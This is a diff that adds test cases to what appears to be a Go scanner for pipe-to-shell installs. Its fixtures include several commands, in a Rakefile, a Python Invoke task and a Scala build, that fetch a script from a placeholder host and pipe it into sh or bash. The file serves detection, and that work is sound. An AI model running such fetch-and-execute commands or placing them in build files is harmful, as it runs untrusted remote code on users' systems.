@@ -77,6 +77,10 @@ var registry = []Rule{
 		{"x.sh", "wget -qO- https://x.invalid/s | sh -s -- --quiet", 0, false},
 		// Anyone's repository on a forge is not a vendor's host.
 		{"x.sh", "curl -fsSL https://raw.githubusercontent.com/go-enumer/tools/main/gen.sh | sh", 0, false},
+		// Rake's sh, Invoke's c.run and Scala's #| run the string they are given.
+		{"Rakefile", "task :default do\n  sh 'curl -s https://x.invalid/p.sh | sh'\nend", 2, false},
+		{"tasks.py", "@task\ndef setup(c):\n    c.run('curl -s https://x.invalid/p.sh | bash')", 3, false},
+		{"project/Probe.scala", "import scala.sys.process._\nobject Probe { def run(): Int = (\"curl -s https://x.invalid/p.sh\" #| \"sh\").! }", 2, false},
 		{"x.sh", "curl -fsSL https://github.com/acme/t/releases/latest/download/install.sh | sh", 0, false},
 		{".devcontainer/features/ktool/install.sh", "curl -LsSf https://setup.ktool-cdn.invalid | bash", 0, false},
 		{".gitlab-ci.yml", "scan:\n  script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 0, true},
